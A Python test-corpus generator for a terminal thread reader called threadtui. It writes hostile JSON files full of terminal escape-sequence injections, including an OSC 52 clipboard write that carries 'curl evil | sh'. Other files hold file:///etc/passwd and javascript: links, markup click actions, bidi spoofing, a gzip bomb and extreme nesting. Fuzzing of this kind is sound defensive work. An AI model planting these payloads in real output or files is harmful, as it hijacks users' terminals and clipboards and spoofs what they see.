"""Write the corpus of hostile and broken thread files that threadtui must survive.

    python tools/make_hostile.py OUT_DIR            # small and large cases
    python tools/make_hostile.py --small OUT_DIR    # only the small ones
    python tools/make_hostile.py --check DIR        # is DIR's small corpus up to date?

Every case is deterministic. The small ones are committed in ``tests/hostile/corpus``
(`--check` keeps them in step with this script); the large ones (a 100,000-level chain,
a 20 MB comment, ...) are written at test time, never committed.

Each case says what threadtui must do with it: ``open`` (the reader shows it, maybe with a
warning matching the regular expression ``needle``) or ``fail`` (one line on stderr
matching ``needle``, exit status 1). ``args`` are extra command-line options the case needs (``--max-size``).
The tests in ``tests/hostile`` open every case in the real reader under a pseudo-terminal.
"""

from __future__ import annotations

import argparse
import base64
import codecs
import gzip
import json
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

ESC = "\x1b"
ST = ESC + "\\"
MARK = "PWN"
"""Every hostile payload carries this marker, so a scan of the terminal output can tell a
control sequence taken from the file from one Textual made."""

# Terminal control sequences a comment must never get to the terminal as such.
PAYLOADS: tuple[str, ...] = (
    ESC + "[2J" + ESC + "[H" + MARK + "-clear",  # CSI: clear, home
    ESC + "[31;1m" + MARK + "-red" + ESC + "[0m",  # SGR colours
    ESC + "]0;" + MARK + "-title0\x07",  # OSC 0 window title (BEL)
    ESC + "]2;" + MARK + "-title2" + ST,  # OSC 2 window title (ST)
    ESC + "]52;c;" + base64.b64encode(f"{MARK} curl evil | sh".encode()).decode() + "\x07",
    ESC + "]52;p;?\x07",  # OSC 52 clipboard read
    ESC + "]8;;file:///etc/passwd" + ST + MARK + "-osc8" + ESC + "]8;;" + ST,
    ESC + "]8;;javascript:alert(1)\x07" + MARK + "-osc8js" + ESC + "]8;;\x07",
    ESC + "]1337;File=name=" + MARK + ":AAAA\x07",  # iTerm2 file transfer
    ESC + "]10;?\x07" + ESC + "]11;?" + ST,  # colour queries
    ESC + "P+q" + MARK.encode().hex() + ST,  # DCS XTGETTCAP
    ESC + "P1$t" + MARK + ST,  # DCS DECRSPS
    ESC + "Pq#0;2;0;0;0#0~~@@vv" + MARK + ST,  # DCS sixel
    ESC + "_Ga=T,f=100;" + MARK + ST,  # APC kitty graphics
    ESC + "^" + MARK + "-pm" + ST,  # PM
    ESC + "X" + MARK + "-sos" + ST,  # SOS
    "\x9b2J" + MARK + "-c1csi",  # C1 CSI
    "\x9d0;" + MARK + "-c1osc\x9c",  # C1 OSC ... C1 ST
    "\x90" + MARK + "-c1dcs\x9c",  # C1 DCS
    "\x9f" + MARK + "-c1apc\x9c",  # C1 APC
    "\x9e\x98\x85\x84\x8d\x8e\x8f\x80\x81",  # PM SOS NEL IND RI SS2 SS3 ...
    ESC + "[6n" + ESC + "[c" + ESC + "[>c" + ESC + "[21t" + ESC + "[14t",  # queries
    ESC + "c",  # RIS: full reset
    ESC + "#8" + ESC + "7" + ESC + "8" + ESC + "(0" + MARK + "-dec" + ESC + "(B",
    ESC + "[?1049l" + ESC + "[?25l" + ESC + "[?1000h" + ESC + "[?2004l" + ESC + "[3J",
    ESC + "[8h" + ESC + "[?7l" + ESC + "[r" + ESC + "[5;5r",
    ESC + "[4i" + ESC + "[5i",  # printer on/off
    "bell\x07" + MARK,
    "back\x08\x08\x08\x08" + MARK,
    "over\r" + MARK + "-cr",
    "delete\x7f" + MARK,
    "nul\x00" + MARK,
    "vt\x0bff\x0c" + MARK + "\x0e\x0f\x18\x1a",  # VT FF SO SI CAN SUB
    "tab\tnl\n" + MARK + "-nl",
    "line\u2028para\u2029sep\u0085",
    ESC,  # a lone trailing ESC
)

MARKUP: tuple[str, ...] = (
    f"[bold red]{MARK}-markup[/]",
    f"[link=file:///etc/passwd]{MARK}-richlink[/link]",
    f"[@click=app.quit]{MARK}-click[/]",
    f"[@click=app.copy_to_clipboard('{MARK}')]copy[/]",
    f"[$accent]{MARK}-var[/] $text-accent [on red]x[/on red] [/]",
    f"\\[escaped] [[double]] [{MARK}",
)

BIDI_SPOOF: tuple[str, ...] = (
    "\u202e" + MARK + "-rlo",  # RIGHT-TO-LEFT OVERRIDE, never closed
    "\u202d\u202b\u202a" + MARK,  # LRO RLE LRE, never closed
    "\u2067" + MARK + "-rli",  # RLI, never closed
    "\u2066\u2068" + MARK,  # LRI FSI
    "\u202c\u2069\u2069\u202c",  # PDF and PDI with nothing to close
    "admin\u202e\u2066 is \u2069\u2066 good",
    "\u200f\u200e\u061c",  # RLM LRM ALM
)

URLS: tuple[str, ...] = (
    "https://example.com/ok",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/\u202egpj.exe",
    "https://ex\u00e4mple.com/\x1b]52;c;AAAA\x07",
    "https://example.com/\x07\x1b\\",
    "mailto:someone@example.com",
    "www.example.org/path",
    "ssh://host/" + MARK,
)


def hostile_text(tag: str) -> str:
    """One string holding every payload, labelled with ``tag`` (the field it goes into)."""
    parts = [f"<{tag}>"]
    parts.extend(PAYLOADS)
    parts.extend(MARKUP)
    parts.extend(BIDI_SPOOF)
    parts.append(" ".join(URLS))
    parts.append(f"</{tag}>")
    return " ".join(parts)


def _json(doc: object, *, ascii_only: bool = True) -> bytes:
    return json.dumps(doc, ensure_ascii=ascii_only, indent=None).encode("utf-8")


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    expect: str  # "open" or "fail"
    needle: str = ""  # regex: searched in the warnings (open) or the error line (fail)
    args: tuple[str, ...] = ()
    large: bool = False
    about: str = ""


CASES: list[Case] = []


def case(
    name: str,
    expect: str,
    needle: str = "",
    *,
    args: tuple[str, ...] = (),
    large: bool = False,
    about: str = "",
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(fn: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(Case(name, fn, expect, needle, args, large, about or (fn.__doc__ or "")))
        return fn

    return register


# --------------------------------------------------------------------- terminal safety


def _escapes_doc() -> dict[str, object]:
    h = hostile_text
    return {
        "format": "threadtui/1",
        "title": h("title"),
        "url": h("url"),
        "source": h("source"),
        h("unknown-key"): h("unknown-value"),
        "article": {
            "title": h("article.title"),
            "subtitle": h("article.subtitle"),
            "author": h("article.author"),
            "published": h("article.published"),
            "url": h("article.url"),
            "body": h("article.body") + "\n\n" + "\n".join(URLS),
        },
        "comments": [
            {
                "id": h("id"),
                "author": h("author"),
                "title": h("comment.title"),
                "posted": h("posted"),
                "url": h("comment.url"),
                "score": 7,
                "body": h("body"),
                h("comment-unknown-key"): [h("comment-unknown-value")],
                "replies": [
                    {
                        "id": h("reply.id"),
                        "author": h("reply.author"),
                        "body": h("reply.body"),
                        "posted": "2024-01-02T03:04:05Z",
                    },
                    {"author": "\u202e" + MARK, "parent": h("parent"), "body": "\n".join(URLS)},
                ],
            },
            {"id": "c2", "parent": h("dangling"), "author": "plain", "body": "plain body"},
            *({"author": f"p{k}", "body": p} for k, p in enumerate(PAYLOADS + MARKUP + URLS)),
        ],
    }


@case("escapes-everywhere.json", "open", "ISO 8601")
def _escapes() -> bytes:
    """Every field holds escape sequences, C1 controls, markup, bidi overrides, bad URLs."""
    return _json(_escapes_doc())


@case("escapes-raw-utf8.json", "open")
def _escapes_raw() -> bytes:
    """The same, with C1 controls, DEL and bidi controls as raw UTF-8 (valid JSON)."""
    return _json(_escapes_doc(), ascii_only=False)


@case("raw-esc-in-string.json", "fail", "invalid JSON")
def _raw_esc() -> bytes:
    """A raw ESC byte inside a JSON string is not JSON; the error must not echo it."""
    return b'{"title": "x\x1b]0;' + MARK.encode() + b'\x07", "comments": []}'


@case("markup-only.json", "open")
def _markup() -> bytes:
    """Rich/Textual markup in every field: shown as typed, never acted on."""
    comments = [{"author": m, "title": m, "body": m, "posted": m} for m in MARKUP]
    return _json({"title": MARKUP[2], "source": MARKUP[0], "comments": comments})


# --------------------------------------------------------------------- spoofing


@case("bidi-spoof.json", "open")
def _bidi() -> bytes:
    """Bidi overrides and isolates left open in authors, titles and URLs (Trojan Source)."""
    comments = []
    for k, s in enumerate(BIDI_SPOOF):
        comments.append(
            {
                "id": f"b{k}",
                "author": s,
                "title": s,
                "url": "https://example.com/" + s,
                "posted": "2024-05-06T07:08:09Z",
                "score": 1234,
                "body": f"body {k}: {s} after",
            }
        )
    comments.append({"author": "plain", "body": "no controls here"})
    return _json({"title": BIDI_SPOOF[0] + " title", "comments": comments}, ascii_only=False)


INVISIBLE_AUTHORS: tuple[str, ...] = (
    "",
    " ",
    "\u200b\u200c\u200d\u2060\ufeff",  # zero-width characters
    "\u202e",  # only an override
    "\u0301\u0302",  # only combining marks
    "\u3164",  # HANGUL FILLER (a letter that draws nothing)
    "\u2800",  # BRAILLE PATTERN BLANK
    "\u115f\u1160",  # Hangul choseong/jungseong fillers
    "\u00ad\u034f\u180e",  # soft hyphen, CGJ, Mongolian vowel separator
    "\U000e0041\U000e0064",  # tag characters
    "\u2061\u2062\u2063\u2064",  # invisible math operators
    "\t\n",
    "\ufe0f\ufe0f",  # variation selectors
)


@case("invisible-authors.json", "open")
def _invisible() -> bytes:
    """Authors made of invisible characters must still show something visible."""
    comments = [
        {"id": f"i{k}", "author": a, "body": f"comment by invisible author {k}"}
        for k, a in enumerate(INVISIBLE_AUTHORS)
    ]
    return _json({"title": "\u200b", "comments": comments}, ascii_only=False)


# --------------------------------------------------------------------- shape of the file


@case("emoji-zwj.json", "open")
def _emoji() -> bytes:
    """Emoji ZWJ sequences, flags, skin tones, keycaps and a 1,000-long ZWJ chain."""
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
    bodies = [
        family * 50,
        "\U0001f1ee\U0001f1f7\U0001f1fa\U0001f1f8" * 40,
        "\U0001f44d\U0001f3fd\u200d" * 30,
        "1\ufe0f\u20e3#\ufe0f\u20e3",
        "\u200d".join(["\U0001f9d1"] * 1000),
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
        "سلام " + family + " دنیا",
    ]
    return _json(
        {"title": family, "comments": [{"author": family, "body": b} for b in bodies]},
        ascii_only=False,
    )


@case("combining-1k.json", "open")
def _combining_small() -> bytes:
    """A line of 1,000 combining marks on one base letter, and marks with no base."""
    return _json(
        {
            "title": "a" + "\u0301" * 1000,
            "comments": [
                {"author": "\u0301" * 200, "body": "e" + "\u0301\u0308\u0323" * 333},
                {"body": "\u0651" * 1000},
                {"body": "\u0301" * 1000},
            ],
        },
        ascii_only=False,
    )


@case("surrogates.json", "open", "surrogate")
def _surrogates() -> bytes:
    """Unpaired surrogates escaped in JSON, in every text field."""
    text = (
        b'{"title": "t\\ud800", "url": "\\udfff", "source": "\\ud83d", '
        b'"article": {"title": "\\ud800", "author": "\\udc00", "body": "a\\ud800b"}, '
        b'"comments": [{"id": "\\ud800", "author": "\\udbff", "title": "\\udfff", '
        b'"posted": "\\ud800", "url": "\\ud800", "body": "x\\udfffy\\ud83d\\ude00"},'
        b'{"parent": "\\ud800", "body": "reply"}]}'
    )
    return text


@case("duplicate-ids.json", "open", "duplicate")
def _dups() -> bytes:
    """The same id many times, including ids that look like threadtui's renamed ones."""
    comments = [{"id": "x", "body": str(k)} for k in range(20)]
    comments += [
        {"id": "x~2", "body": "looks renamed"},
        {"id": "#1", "body": "looks generated"},
        {"body": "no id"},
        {"id": "x", "parent": "x", "body": "reply to x"},
    ]
    return _json({"title": "dups", "comments": comments})


@case("cycles.json", "open", "cycle")
def _cycles() -> bytes:
    """Parent cycles of length 1 (itself), 2, 3, 10 and 100, plus orphans."""
    comments: list[dict[str, object]] = [{"id": "self", "parent": "self", "body": "me"}]
    for length in (2, 3, 10, 100):
        comments += [
            {
                "id": f"c{length}-{k}",
                "parent": f"c{length}-{(k + 1) % length}",
                "body": f"cycle {length} member {k}",
            }
            for k in range(length)
        ]
    comments += [{"id": f"o{k}", "parent": f"missing{k}", "body": "orphan"} for k in range(5)]
    return _json({"title": "cycles", "comments": comments})


@case("nulls-optional.json", "open")
def _nulls_ok() -> bytes:
    """null in every optional field is allowed."""
    c = {
        k: None
        for k in (
            "id",
            "parent",
            "author",
            "verified",
            "posted",
            "title",
            "score",
            "url",
            "deleted",
            "more",
            "replies",
        )
    }
    return _json(
        {
            "title": "nulls",
            "url": None,
            "source": None,
            "article": None,
            "more": None,
            "comments": [{**c, "body": "all null"}],
        }
    )


@case("null-body.json", "fail", "body: expected a string")
def _null_body() -> bytes:
    """null where a required string belongs."""
    return _json({"title": "t", "comments": [{"body": None}]})


@case("null-title.json", "fail", "title: required")
def _null_title() -> bytes:
    return _json({"title": None, "comments": []})


@case("number-author.json", "fail", "author: expected a string")
def _num_author() -> bytes:
    """A number where a string belongs."""
    return _json({"title": "t", "comments": [{"body": "x", "author": 12345}]})


@case("number-ids.json", "open")
def _num_ids() -> bytes:
    """Numeric ids and parents are accepted as their decimal text."""
    return _json(
        {"title": "t", "comments": [{"id": 1, "body": "a"}, {"id": 2, "parent": 1, "body": "b"}]}
    )


@case("object-body.json", "fail", "body: expected a string")
def _obj_body() -> bytes:
    return _json({"title": "t", "comments": [{"body": {"nested": ["x"]}}]})


@case("wrong-types-many.json", "fail", r"and 50 more problems; `threadtui validate")
def _many() -> bytes:
    """Many type errors: one line that says how many more and how to list them."""
    return _json({"title": 1, "comments": [{"body": k} for k in range(50)]})


@case("big-numbers.json", "open")
def _big_numbers() -> bytes:
    """Scores of 10^300, -10^300 and 1e308, a 300-digit id, a huge `more`."""
    return (
        b'{"title": "big", "more": ' + b"9" * 100 + b', "comments": ['
        b'{"id": ' + b"1" * 300 + b', "body": "a", "score": ' + b"9" * 300 + b"},"
        b'{"body": "b", "score": -' + b"9" * 300 + b', "more": ' + b"9" * 200 + b"},"
        b'{"body": "c", "score": 1e308}, {"body": "d", "score": -0.0}]}'
    )


@case("huge-int-score.json", "fail", "score")
def _huge_int() -> bytes:
    """An integer longer than Python's int conversion limit (4,300 digits)."""
    return b'{"title": "t", "comments": [{"body": "x", "score": ' + b"9" * 50_000 + b"}]}"


@case("nan-infinity.json", "fail", "score")
def _nan() -> bytes:
    """NaN and Infinity are not JSON, but Python reads them; they are not scores."""
    return b'{"title": "t", "comments": [{"body": "x", "score": NaN}, {"body": "y", "score": -Infinity}]}'


@case("bad-dates.json", "open", "ISO 8601")
def _dates() -> bytes:
    """Dates that are not dates: shown as written, with a warning."""
    dates = [
        "yesterday",
        "2024-13-45",
        "0000-00-00",
        "2024-02-30T25:61:61",
        "9999-12-31T23:59:59+23:59",
        "-0001-01-01",
        "",
        " ",
        "\u06f1\u06f4\u06f0\u06f3",
        "2020-01-01T00:00:00+99:00",
        "1" * 10_000,
        "\u202e2024-01-01",
        "2024-01-01T00:00:00\u0000",
        "0001-01-01T00:00:00-23:59",
    ]
    return _json(
        {
            "title": "dates",
            "article": {"published": "not a date", "body": "x"},
            "comments": [{"body": f"date {k}", "posted": d} for k, d in enumerate(dates)],
        },
        ascii_only=False,
    )


@case("bom-utf8.json", "open")
def _bom() -> bytes:
    return codecs.BOM_UTF8 + _json(
        {"title": "سلام", "comments": [{"body": "متن"}]}, ascii_only=False
    )


@case("double-bom.json", "fail", "invalid JSON|not a thread format")
def _double_bom() -> bytes:
    return codecs.BOM_UTF8 * 2 + b'{"title": "t"}'


def _unicode_doc() -> str:
    return json.dumps(
        {"title": "سلام \U0001f600", "comments": [{"body": "متن \U0001f600"}]}, ensure_ascii=False
    )


@case("utf16le-bom.json", "open")
def _u16le() -> bytes:
    return _unicode_doc().encode("utf-16")  # with BOM, little-endian on every platform we use


@case("utf16be.json", "open")
def _u16be() -> bytes:
    return _unicode_doc().encode("utf-16-be")


@case("utf32le-bom.json", "open")
def _u32() -> bytes:
    return codecs.BOM_UTF32_LE + _unicode_doc().encode("utf-32-le")


@case("utf16-odd-length.json", "fail", "not valid UTF-16")
def _u16odd() -> bytes:
    return _unicode_doc().encode("utf-16-le")[:-1]


@case("latin1.json", "fail", "not valid UTF-8")
def _latin1() -> bytes:
    return '{"title": "caf\u00e9", "comments": []}'.encode("latin-1")


@case("cesu-surrogate-bytes.json", "fail", "not valid UTF-8")
def _cesu() -> bytes:
    """A surrogate encoded directly in UTF-8 bytes (CESU-8 / WTF-8) is not UTF-8."""
    return b'{"title": "\xed\xa0\x80", "comments": []}'


@case("overlong-utf8.json", "fail", "not valid UTF-8")
def _overlong() -> bytes:
    return b'{"title": "\xc0\xaf\xe0\x80\xaf", "comments": []}'


@case("gzip.json.gz", "open")
def _gz() -> bytes:
    return gzip.compress(_unicode_doc().encode(), mtime=0)


@case("gzip-no-suffix.json", "open")
def _gz_plain_name() -> bytes:
    """gzip data is recognised by its magic bytes, not the file name."""
    return gzip.compress(_unicode_doc().encode(), mtime=0)


@case("gzip-truncated.json.gz", "fail", "gzip")
def _gz_cut() -> bytes:
    data = gzip.compress(_json({"title": "t", "comments": [{"body": "x" * 5000}]}), mtime=0)
    return data[: len(data) // 2]


@case("gzip-garbage.json.gz", "fail", "gzip")
def _gz_junk() -> bytes:
    return b"\x1f\x8b\x08\x00" + b"\xff" * 64


@case("gzip-twice.json.gz", "fail", "not valid UTF-8")
def _gz_twice() -> bytes:
    return gzip.compress(gzip.compress(b'{"title": "t"}', mtime=0), mtime=0)


@case("gzip-bomb.json.gz", "fail", "decompresses to more than", args=("--max-size", "1M"))
def _gz_bomb() -> bytes:
    """20 MB of spaces in 20 KB; opened with --max-size 1M it must stop at the cap."""
    return gzip.compress(b"{" + b" " * 20_000_000 + b"}", compresslevel=9, mtime=0)


@case("oversize.json", "fail", "over the 4096 bytes limit.*--max-size", args=("--max-size", "4K"))
def _oversize() -> bytes:
    """A file over --max-size fails before it is read."""
    return _json({"title": "t", "comments": [{"body": "x" * 8000}]})


@case("empty.json", "fail", "empty")
def _empty() -> bytes:
    return b""


@case("whitespace.json", "fail", "empty")
def _ws() -> bytes:
    return b" \n\t\r\n" * 10


@case("not-an-object.json", "fail", "expected a JSON object|not a thread format")
def _array() -> bytes:
    return b'[{"title": "t"}]'


@case("json-null.json", "fail", "expected a JSON object|not a thread format")
def _jnull() -> bytes:
    return b"null"


@case("truncated.json", "fail", "ends too early")
def _truncated() -> bytes:
    """A file cut off mid-write (what a reader sees while an exporter is still writing)."""
    data = _json({"title": "t", "comments": [{"body": f"comment {k}"} for k in range(200)]})
    return data[: len(data) * 2 // 3]


@case("trailing-garbage.json", "fail", "Extra data|not a thread format")
def _trailing() -> bytes:
    return b'{"title": "t", "comments": []} {"title": "again"}'


@case("binary-junk.json", "fail", "not valid UTF-8")
def _junk() -> bytes:
    return bytes(range(256)) * 16


@case("nul-bytes.json", "fail", "")
def _nuls() -> bytes:
    """NUL bytes (a file that was preallocated and not yet written)."""
    return b"\x00" * 4096


@case("replies-not-a-list.json", "fail", "replies: expected a list")
def _replies() -> bytes:
    return _json({"title": "t", "comments": [{"body": "x", "replies": "nope"}]})


@case("comment-not-object.json", "fail", "expected a comment object|not a thread format")
def _cnotobj() -> bytes:
    return _json({"title": "t", "comments": ["just a string", 5, None]})


@case("no-comments.json", "open")
def _no_comments() -> bytes:
    """A thread with no comments at all (every key must still work)."""
    return _json({"title": "nobody answered", "comments": []})


@case("article-only.json", "open")
def _article_only() -> bytes:
    return _json({"title": "t", "article": {"title": "just an article", "body": "text"}})


@case("unknown-format.json", "open", "unknown format")
def _unknown_format() -> bytes:
    return _json(
        {
            "format": ESC + "]0;" + MARK + "\x07" + "x" * 500,
            "title": "t",
            "comments": [{"body": "x"}],
        }
    )


# --------------------------------------------------------------------- large cases


def _chain(depth: int) -> bytes:
    return (
        b'{"title": "chain", "comments": ['
        + b'{"body": "level", "replies": [' * depth
        + b'{"body": "bottom of the chain"}'
        + b"]}" * depth
        + b"]}"
    )


@case("deep-100k.json", "open", large=True)
def _deep() -> bytes:
    """A reply chain 100,000 levels deep (nested)."""
    return _chain(100_000)


@case("deep-flat-100k.json", "open", large=True)
def _deep_flat() -> bytes:
    """A 100,000-level chain given flat, by parent ids, in reverse order."""
    comments = [
        {"id": f"n{k}", "parent": f"n{k - 1}" if k else None, "body": f"level {k}"}
        for k in range(100_000)
    ]
    comments.reverse()
    return _json({"title": "flat chain", "comments": comments})


@case("wide-100k.json", "open", large=True)
def _wide() -> bytes:
    """100,000 top-level comments."""
    return _json(
        {
            "title": "wide",
            "comments": [
                {"id": f"w{k}", "author": f"user{k % 977}", "body": f"comment number {k}"}
                for k in range(100_000)
            ],
        }
    )


@case("comment-20mb.json", "open", large=True)
def _huge_comment() -> bytes:
    """One comment of 20 MB (words, Persian and Latin, many paragraphs)."""
    para = (
        "این یک پاراگراف طولانی است که چند بار تکرار می‌شود. " * 20
        + "This is a long paragraph repeated many times. " * 20
    )
    n = 20_000_000 // len(para.encode())
    body = "\n\n".join([para] * n)
    return _json(
        {
            "title": "huge comment",
            "comments": [{"author": "big", "body": body}, {"author": "after", "body": "small"}],
        },
        ascii_only=False,
    )


@case("token-2mb.json", "open", large=True)
def _token() -> bytes:
    """A 2 MB token with no spaces (a pasted base64 blob)."""
    token = base64.b64encode(bytes(range(256)) * (1_572_864 // 256)).decode()
    return _json({"title": "token", "comments": [{"body": token}, {"body": "after"}]})


@case("token-rtl-2mb.json", "open", large=True)
def _token_rtl() -> bytes:
    """A 2 MB Arabic-script token with no spaces (shaping and reordering at scale)."""
    return _json(
        {"title": "rtl token", "comments": [{"body": "سلامدنیا" * 131_072}, {"body": "after"}]},
        ascii_only=False,
    )


@case("combining-100k.json", "open", large=True)
def _combining() -> bytes:
    """Lines of 100,000 combining marks."""
    return _json(
        {
            "title": "combining",
            "comments": [
                {"body": "a" + "\u0301" * 100_000},
                {"body": "\u0651" * 100_000},
                {"author": "x" + "\u0308" * 100_000, "body": "\u0308" * 100_000},
            ],
        },
        ascii_only=False,
    )


@case("dup-ids-100k.json", "open", "duplicate", large=True)
def _dups_many() -> bytes:
    """100,000 comments sharing one id (once took quadratic time)."""
    return _json(
        {"title": "dups", "comments": [{"id": "same", "body": str(k)} for k in range(100_000)]}
    )


@case("cycle-100k.json", "open", "cycle", large=True)
def _cycle_big() -> bytes:
    """One parent cycle through 100,000 comments."""
    n = 100_000
    return _json(
        {
            "title": "cycle",
            "comments": [
                {"id": f"c{k}", "parent": f"c{(k + 1) % n}", "body": f"member {k}"}
                for k in range(n)
            ],
        }
    )


@case("orphans-100k.json", "open", "does not exist", large=True)
def _orphans() -> bytes:
    return _json(
        {
            "title": "orphans",
            "comments": [
                {"id": f"o{k}", "parent": f"gone{k}", "body": "orphan"} for k in range(100_000)
            ],
        }
    )


@case("bad-dates-100k.json", "open", "ISO 8601", large=True)
def _many_dates() -> bytes:
    """100,000 bad dates: the warnings must stay few."""
    return _json(
        {
            "title": "dates",
            "comments": [{"body": "x", "posted": f"day {k}"} for k in range(100_000)],
        }
    )


@case("deep-unknown-key.json", "open", large=True)
def _deep_extra() -> bytes:
    """An unknown key holding arrays nested 100,000 deep."""
    d = 100_000
    return (
        b'{"title": "t", "x-junk": '
        + b"[" * d
        + b"]" * d
        + b', "comments": [{"body": "x", "x-more": '
        + b'{"a":' * d
        + b"1"
        + b"}" * d
        + b"}]}"
    )


@case("deep-format.json", "open", "unknown format", large=True)
def _deep_format() -> bytes:
    """The `format` key holding lists nested 100,000 deep (once a RecursionError)."""
    d = 100_000
    return b'{"format": ' + b"[" * d + b"]" * d + b', "title": "t", "comments": []}'


@case("deep-arrays-junk.json", "fail", "", large=True)
def _deep_junk() -> bytes:
    """A million nested brackets with nothing else: an error, not a hang or a crash."""
    return b"[" * 1_000_000 + b"]" * 1_000_000


@case("huge-id.json", "open", "does not exist", large=True)
def _huge_id() -> bytes:
    """A 5 MB parent id that does not exist (once a 5 MB warning)."""
    return _json(
        {
            "title": "t",
            "comments": [{"id": "a" * 5_000_000, "parent": "b" * 5_000_000, "body": "x"}],
        }
    )


# --------------------------------------------------------------------- writing


def cases(*, small: bool = True, large: bool = True) -> Iterator[Case]:
    for c in CASES:
        if (c.large and large) or (not c.large and small):
            yield c


def write(out: Path, *, small: bool = True, large: bool = True) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for c in cases(small=small, large=large):
        p = out / c.name
        data = c.make()
        if not p.exists() or p.read_bytes() != data:
            p.write_bytes(data)
        written.append(p)
    return written


def check(directory: Path) -> list[str]:
    """Problems with the committed small corpus in ``directory`` (empty when up to date)."""
    problems = []
    expected = {c.name: c for c in cases(large=False)}
    for name, c in expected.items():
        p = directory / name
        if not p.exists():
            problems.append(f"{name}: missing")
        elif p.read_bytes() != c.make():
            problems.append(f"{name}: differs from what tools/make_hostile.py writes")
    for p in directory.iterdir():
        if p.is_file() and p.name not in expected and p.name != "README.md":
            problems.append(f"{p.name}: not a case of tools/make_hostile.py")
    return problems


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out", type=Path)
    g = ap.add_mutually_exclusive_group()
    g.add_argument("--small", action="store_true", help="only the small (committed) cases")
    g.add_argument("--large", action="store_true", help="only the large (generated) cases")
    g.add_argument("--check", action="store_true", help="check a committed small corpus")
    a = ap.parse_args(argv)
    if a.check:
        problems = check(a.out)
        for p in problems:
            print(p, file=sys.stderr)
        return 1 if problems else 0
    paths = write(a.out, small=not a.large, large=not a.small)
    total = sum(p.stat().st_size for p in paths)
    print(f"wrote {len(paths)} files, {total / 1e6:.1f} MB, to {a.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
